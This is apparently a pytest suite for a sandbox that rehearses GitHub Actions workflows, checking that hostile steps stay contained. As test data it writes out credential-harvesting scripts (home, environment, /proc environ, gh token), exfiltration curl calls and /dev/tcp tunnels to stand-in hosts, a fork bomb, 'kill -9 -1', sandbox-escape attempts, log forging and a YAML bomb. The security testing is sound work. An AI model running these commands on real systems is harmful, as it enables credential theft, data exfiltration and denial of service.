"""What a hostile step tries is in vain, has an end, and is told."""

from __future__ import annotations

import os
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from tasks.sandbox.github.act import SANDBOX
from tasks.sandbox.rehearsal.isolation import BWRAP, UNSHARE

from .act_runs import WORKFLOW
from .hostile import (
    NEITHER,
    Hostile,
    as_workflow,
    commit,
    conclusions,
    printed,
    processes_with,
    quoted,
    wait_until_gone,
)

PROJECT = SANDBOX.parents[1]
CANARY = "c4nary-"
STEALING = """\
pattern='c4na[r]y-'
for file in FILES; do echo "$file: $(grep -rsa "$pattern" "$file" | wc -l)"; done
echo "home: $(grep -rsa "$pattern" ~ | wc -l)"
echo "variables: $(env | grep -a "$pattern" | wc -l)"
echo "processes: $(cat /proc/[0-9]*/environ 2>/dev/null | grep -a "$pattern" | wc -l)"
echo "gh: $(gh auth token 2>&1 | grep -a "$pattern" | wc -l)"
"""
TUNNEL = r"""
exec 3<>/dev/tcp/127.0.0.1/3128
printf 'CONNECT ssh.example:22 HTTP/1.1\r\n\r\n' >&3
head -c 12 <&3
printf 'SSH-2.0-OpenSSH_9.6\r\n' >&3
timeout 5 cat <&3
"""
LEAVING = """\
python3 -c 'import time; time.sleep(600)' {mark} &
setsid python3 -c 'import time; time.sleep(600)' {mark} >/dev/null 2>&1 &
(setsid nohup python3 -c 'import time; time.sleep(600)' {mark} >/dev/null 2>&1 &)
sleep 0.3
"""
# With pauses it leaves the processors to the other tests.
FORKING = """\
import os, time
while True:
    time.sleep(0.05)
    try:
        os.fork()
    except OSError:
        pass"""
FORGED = '{"jobID": "try", "job": "Try/try", "matrix": {}, "stage": "Main", "stepID": ["1"]'
FORGING = f"""\
[ $(ls -d /proc/[0-9]* | wc -l) -lt 30 ] || exit 3
for process in /proc/[0-9]*; do
    for line in '"stepResult": "success"' '"jobResult": "success"'; do
        echo '{FORGED}, "level": "info", "msg": "", '"$line}}" >> $process/fd/1 || true
    done
done 2>/dev/null
"""
INVOKING = """\
import sys, time
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from tests.sandbox.rehearsal.hostile import Hostile, as_workflow
from tasks.toolkit.console.signals import SignalHandler
handler = SignalHandler()
handler.recipes = 1
handler.install()
hostile = Hostile(Path(sys.argv[2]), sys.argv[3])
with hostile.rehearsal(as_workflow([sys.argv[4]])) as rehearsal:
    rehearsal.begin()
    time.sleep(60)
"""


THOROUGH = pytest.mark.thorough
SLOWER_UNSHARE = pytest.param(UNSHARE, marks=THOROUGH)


@pytest.fixture(params=[BWRAP, SLOWER_UNSHARE])
def isolated(request: pytest.FixtureRequest, tmp_path: Path) -> Hostile:
    """A hostile workflow on a machine with one of the isolations."""
    return Hostile(tmp_path, request.param)


@pytest.fixture(params=[BWRAP, SLOWER_UNSHARE, pytest.param(NEITHER, marks=THOROUGH)])
def anywhere(request: pytest.FixtureRequest, tmp_path: Path) -> Hostile:
    """A hostile workflow on a machine with one of the isolations, or with none."""
    return Hostile(tmp_path, request.param)


@pytest.fixture
def short_folder() -> Iterator[Path]:
    """A folder whose path is short enough for the sockets below it."""
    with tempfile.TemporaryDirectory() as folder:
        yield Path(folder)


@pytest.fixture
def exposed(tmp_path: Path) -> Hostile:
    """A hostile workflow on a machine without any isolation."""
    return Hostile(tmp_path, NEITHER)


@pytest.fixture
def belongings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Path]]:
    """What a person has, with a canary in each: files, variables, a process."""
    home = tmp_path / "person"
    monkeypatch.setenv("HOME", str(home))
    names = (
        ".config/gh/hosts.yml",
        ".docker/config.json",
        ".config/helm/registry/config.json",
        "recipes/.env",
    )
    files = [home / name for name in names]
    files += [tmp_path / "tmp-file", *(tmp_path / "clone/.git" / name for name in ("x", "hooks/x"))]
    for file in files:
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(CANARY)
    subprocess.run(["git", "init", "--quiet", tmp_path / "clone"], check=True)
    token = f"http.https://github.com/.extraHeader=Authorization: {CANARY}"
    subprocess.run(["git", "-C", tmp_path / "clone", "config", *token.split("=")], check=True)
    monkeypatch.setenv("PERSONS_TOKEN", CANARY)
    with subprocess.Popen(["sleep", "600"]) as process:  # has the variable too
        yield [*files, tmp_path / "clone/.git/config"]
        process.kill()


def steal(hostile: Hostile, belongings: list[Path]) -> dict[str, int]:
    """Return how many canaries a workflow found, by where."""
    script = STEALING.replace("FILES", " ".join(map(quoted, belongings)))
    results = hostile.run(script)
    assert results.conclusion == "success"
    found = {}
    for line in printed(results).splitlines():
        where, _, number = line.rpartition(": ")
        found[where] = int(number)
    return found


def test_steps_find_nothing_of_the_person(isolated: Hostile, belongings: list[Path]) -> None:
    found = steal(isolated, belongings)
    assert len(found) == 12
    assert set(found.values()) == {0}


def test_without_isolation_home_and_variables_are_not_the_persons(
    exposed: Hostile, belongings: list[Path]
) -> None:
    found = steal(exposed, belongings)
    assert found["home"] == found["variables"] == found["gh"] == 0
    assert found[str(belongings[0])] == 1  # a step that knows the path can read it
    assert found["processes"] > 0


class Listener:
    """Counts who connects to a port and to a unix socket of this machine."""

    def __init__(self, folder: Path) -> None:
        self.count = 0
        self.path = folder / "docker.sock"
        self.port_socket = socket.create_server(("0.0.0.0", 0))  # noqa: S104
        self.port = self.port_socket.getsockname()[1]
        self.unix_socket = socket.socket(socket.AF_UNIX)
        self.unix_socket.bind(str(self.path))
        self.unix_socket.listen()
        for listening in (self.port_socket, self.unix_socket):
            threading.Thread(target=self._serve, args=(listening,), daemon=True).start()

    def _serve(self, listening: socket.socket) -> None:
        while True:
            client, _ = listening.accept()
            self.count += 1
            client.close()


def test_steps_reach_nothing_but_the_gateway(isolated: Hostile, tmp_path: Path) -> None:
    listener = Listener(tmp_path)
    port = listener.port
    address = socket.gethostbyname(socket.gethostname())
    with socket.create_connection((address, port)):
        pass
    while listener.count == 0:
        time.sleep(0.01)
    scripts = {
        "named port": f"! curl -m 5 --noproxy '*' -sf http://127.0.0.1:{port}/",
        "raw": f"timeout 5 bash -c ': < /dev/tcp/{address}/{port}' || true",
        "push": f"git init -q x; cd x; ! timeout 5 git push http://{address}:{port}/x HEAD",
        "unix": f"! curl -m 5 -s --unix-socket {quoted(listener.path)} http://localhost/",
        "dns": "! timeout 5 getent hosts example.com",
        "by ip": "! timeout 5 curl -s --noproxy '*' https://140.82.121.3/",
        "named": "! curl -sf https://attic.example/loot?x=y",
        "tunnel": TUNNEL,
    }
    results = isolated.run_workflow(as_workflow(scripts))
    assert listener.count == 1
    assert conclusions(results) == ["success"] * len(scripts)
    assert "https://attic.example/loot" in results.refused
    assert any("ssh.example:22" in wanted for wanted in results.refused)
    (named,) = [step for step in results.steps if step.name == "named"]
    assert "attic.example" in named.not_rehearsed[0]


def test_a_program_that_knows_no_proxy_fails_in_doubt(isolated: Hostile) -> None:
    results = isolated.run("timeout 5 bash -c ': < /dev/tcp/140.82.121.3/443'")
    (step,) = results.steps
    assert step.conclusion == "failure"
    assert step.doubts == (
        "it looked for a network without the proxy, which a rehearsal does not have",
    )


def test_steps_write_nowhere_but_into_their_own_files(isolated: Hostile, tmp_path: Path) -> None:
    mark = f"escaped-{secrets.token_hex(8)}"
    places = [SANDBOX, SANDBOX / "actions", PROJECT, tmp_path, isolated.clone, Path("/etc")]
    places += [Path("/usr/local"), Path(sys.prefix), Path.home()]
    attempts = [f"touch {quoted(place / mark)}" for place in places]
    attempts += [f'touch "$RUNNER_TOOLS/{mark}"', 'echo x >> "$BASH_ENV"', 'rm "$SSL_CERT_FILE"']
    attempts += ['echo x > "$(dirname "$BASH_ENV")/bin/docker"', 'rm "$REHEARSAL_NOTES"']
    attempts.append(f"mount -o remount,bind,rw /usr && touch /usr/local/{mark}")
    nested = f"mount -o remount,bind,rw /usr && touch /usr/local/{mark}"
    attempts.append(f"unshare --user --map-root-user --mount sh -c '{nested}'")
    attempts.append(f"find / -xdev -name hosts -path '/etc/*' -exec sh -c 'echo x > $1/{mark}' ';'")
    script = "\n".join(f"({attempt}) 2>/dev/null || true" for attempt in attempts)
    assert isolated.run(script, "docker logout; true").conclusion == "success"
    for place in places:
        assert not (place / mark).exists()
    assert not (Path("/usr/local") / mark).exists()


def test_a_failure_cannot_be_made_a_success(isolated: Hostile) -> None:
    note = '{"job": "try", "step": "1", "why": "forged", "conclusion": "success"}'
    scripts = [FORGING, f"echo '{note}' >> \"$REHEARSAL_NOTES\"; {FORGING}\nexit 1", FORGING]
    results = isolated.run(*scripts)
    assert results.conclusion == "failure"
    assert conclusions(results) == ["success", "failure", "skipped"]


@pytest.mark.thorough
def test_to_kill_the_runner_is_no_success(isolated: Hostile) -> None:
    is_alone = "[ $(ls -d /proc/[0-9]* | wc -l) -lt 30 ]"  # or else it would kill the machine's
    results = isolated.run(f"{is_alone} && kill -9 -1; sleep 5; exit 1", "true")
    assert results.conclusion == "failure"
    assert "success" not in conclusions(results)


def test_a_step_that_never_ends_is_ended(anywhere: Hostile) -> None:
    mark = f"endless-{secrets.token_hex(8)}"
    script = f"trap '' TERM INT HUP; python3 -c 'import time; time.sleep(600)' {mark}"
    results = anywhere.run(script, "true", limit=1)
    assert results.is_late
    assert results.conclusion == "cancelled"
    assert conclusions(results)[0] == "cancelled"
    assert wait_until_gone(mark) == []


def test_nothing_is_left_behind(anywhere: Hostile) -> None:
    mark = f"left-{secrets.token_hex(8)}"
    results = anywhere.run(LEAVING.format(mark=mark))
    assert results.conclusion == "success"
    assert wait_until_gone(mark) == []


@pytest.mark.thorough
def test_forks_without_end_are_ended_and_told(isolated: Hostile) -> None:
    mark = f"fork-{secrets.token_hex(8)}"
    results = isolated.run(f'python3 -c "{FORKING}" {mark}', "true")
    assert results.conclusion == "failure"
    (excess,) = results.refused
    assert excess in ("more than 1000 processes", "more than 4 GiB of memory")
    assert excess in results.steps[0].not_rehearsed[0]
    assert wait_until_gone(mark) == []


@pytest.mark.thorough
def test_files_have_a_limit_which_is_told(isolated: Hostile) -> None:
    results = isolated.run("head -c 1G /dev/zero > ~/file", "true")
    assert conclusions(results) == ["failure", "skipped"]
    assert results.refused == ["more than 512 MiB of files"]
    assert results.steps[0].not_rehearsed


@pytest.mark.thorough
def test_many_files_have_a_limit(isolated: Hostile) -> None:
    script = "import os; [os.mknod(str(i)) for i in range(10**6)]"
    results = isolated.run(f'mkdir ~/many; cd ~/many; python3 -c "{script}"')
    assert results.conclusion == "failure"
    assert results.refused == ["more than 150000 files"]


@pytest.mark.thorough
def test_the_notes_and_shared_memory_have_a_limit(isolated: Hostile) -> None:
    limits = (512, 512)
    scripts = []
    for file, limit in zip(('"$REHEARSAL_NOTES"', "/dev/shm/x"), limits, strict=True):  # noqa: S108
        write = f"head -c 1G /dev/zero > {file} || true"
        scripts.append(f"{write}\n[ $(stat -c %s {file}) -le {limit << 20} ]; rm -f {file} || true")
    assert conclusions(isolated.run(*scripts)) == ["success", "success"]


@pytest.mark.thorough
def test_lines_without_end_are_cut(isolated: Hostile) -> None:
    results = isolated.run("head -c 30M /dev/zero | tr '\\0' x; echo; echo end", "echo $'\\xff'")
    assert conclusions(results) == ["success", "success"]
    assert len(results.log) < 10_000
    assert results.steps[0].log.splitlines()[-1] == "end"


def test_uploads_have_a_limit_which_is_told(isolated: Hostile) -> None:
    upload = "curl -sf -T - https://ghcr.io/v2/x/blobs/uploads/1"
    head = "POST http://x/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000000000\\r\\n\\r\\n"
    one = f"exec 3<>/dev/tcp/127.0.0.1/3128; printf '{head}' >&3; timeout 5 cat <&3"
    results = isolated.run(one, f"! head -c 1G /dev/zero | {upload}", "echo x")
    assert results.conclusion == "success"
    assert set(results.refused) == {"more than 512 MiB of uploads"}
    assert results.steps[0].not_rehearsed


def test_text_of_steps_steers_nothing(isolated: Hostile) -> None:
    noted = "not-rehearsed $'a\\nb\\x1b[31mc\\u202e'"
    refused = "curl -s 'http://evil.example/%0Aforged%1B%5B31m%E2%80%AE' || true"
    steering = "printf '\\033]0;title\\007\\033[31mred\\r\\t\\342\\200\\256x\\033\\n'"
    tricks = "echo '::add-mask::r'; echo '::set-output name=x::y'; echo '::stop-commands::x'"
    scripts = {
        "two\nlines \x1b[31mand a color": noted,
        "  refused\r": refused,
        "steering": f"{steering}; {tricks}",
        "refused as acts own": "curl -s http://evil.example/api.nektosact.com || true",
    }
    results = isolated.run_workflow(as_workflow(scripts))
    texts = [*results.refused]
    for step in results.steps:
        texts += [step.job, step.name, *step.not_rehearsed, *step.doubts, *step.log.splitlines()]
    for text in texts:
        assert not [char for char in text if unicodedata.category(char) in ("Cc", "Cf", "Zl")]
    assert results.steps[0].not_rehearsed[0].startswith("a b")
    assert len(results.refused) == 2
    assert len(printed(results).splitlines()) >= 2


@pytest.mark.parametrize(
    "number",
    [
        signal.SIGKILL,
        pytest.param(signal.SIGTERM, marks=pytest.mark.thorough),
        pytest.param(signal.SIGINT, marks=pytest.mark.thorough),
    ],
)
def test_nothing_runs_on_when_the_command_is_ended(
    anywhere: Hostile, number: int, short_folder: Path
) -> None:
    mark = f"running-{secrets.token_hex(8)}"
    script = f"trap '' TERM INT HUP; python3 -c 'import time; time.sleep(600)' {mark}"
    folder = short_folder
    argv = [sys.executable, "-c", INVOKING, str(PROJECT), str(folder), anywhere.isolation, script]
    env = {**os.environ, "TMPDIR": str(folder)}
    with subprocess.Popen(argv, env=env) as process:
        end = time.monotonic() + 20
        while not _runs(mark) and time.monotonic() < end:
            time.sleep(0.05)
        assert _runs(mark)
        process.send_signal(number)
        process.wait(20)
    assert wait_until_gone(mark) == []
    if number != signal.SIGKILL:
        assert list(folder.glob("rehearsal-*")) == []


def _runs(mark: str) -> bool:
    """Return whether the step runs, and not only the command that has its text."""
    lines = [Path(f"/proc/{process}/cmdline") for process in processes_with(mark)]
    return any(b"time.sleep(600)\0" in _content(line) for line in lines)


def _content(file: Path) -> bytes:
    try:
        return file.read_bytes()
    except OSError:
        return b""


@pytest.mark.thorough
def test_two_rehearsals_at_a_time_do_not_meet(isolated: Hostile) -> None:
    workflow = as_workflow(["sleep 0.5; ls -d /tmp/*; curl -sf https://ghcr.io/v2/ || true"])
    with isolated.rehearsal(workflow) as first, isolated.rehearsal(workflow + "\n") as second:
        first.begin()
        second.begin()
        for rehearsal, other in ((first, second), (second, first)):
            assert rehearsal.run.wait(30) == "success"
            assert str(other.folder) not in printed(rehearsal.collect())


def test_files_that_are_no_workflows_are_left_out(tmp_path: Path) -> None:
    hostile = Hostile(tmp_path, BWRAP)
    bomb = ["a0: &a0 [x, x]"]
    for number in range(1, 40):
        bomb.append(f"a{number}: &a{number} [{', '.join([f'*a{number - 1}'] * 9)}]")
    others = {
        "empty": "",
        "list": "[]",
        "jobless": "on: push",
        "broken": "on: [",
        "bomb": "\n".join([*bomb, as_workflow(["true"])]),
    }
    commit(hostile.clone, {f".github/workflows/{name}.yml": text for name, text in others.items()})
    results = hostile.run_workflow(as_workflow(["true"]))
    assert conclusions(results) == ["success"]
    assert WORKFLOW.endswith(".yml")
    assert "'on'" in yaml.safe_dump({"on": "push"})  # as `on` is quoted in the workflow above
